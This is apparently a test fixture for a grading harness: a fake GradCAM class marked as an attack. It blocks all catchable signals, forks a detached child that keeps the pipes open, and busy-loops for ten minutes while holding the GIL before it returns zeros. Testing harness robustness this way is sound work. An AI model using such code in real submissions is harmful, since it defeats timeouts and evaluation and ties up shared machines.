# attack: blocks every signal it can, starts a detached child that keeps the pipes open for a minute, then spins in C code that holds the GIL
# on: empty
# %% solution="gradcam"
import os
import signal
import time


class GradCAM:
    def __init__(self, model, target_layer):
        signal.pthread_sigmask(
            signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}
        )
        if os.fork() == 0:
            os.setsid()
            end = time.time() + 60
            while time.time() < end:
                time.sleep(1)
            os._exit(0)

    def __call__(self, images, class_index):
        end = time.time() + 600
        while time.time() < end:
            pow(7, 7**7, 10**4000 + 7)
            sum(range(10**8))
        return torch.zeros(len(images), *images.shape[2:])

    def remove(self):
        pass
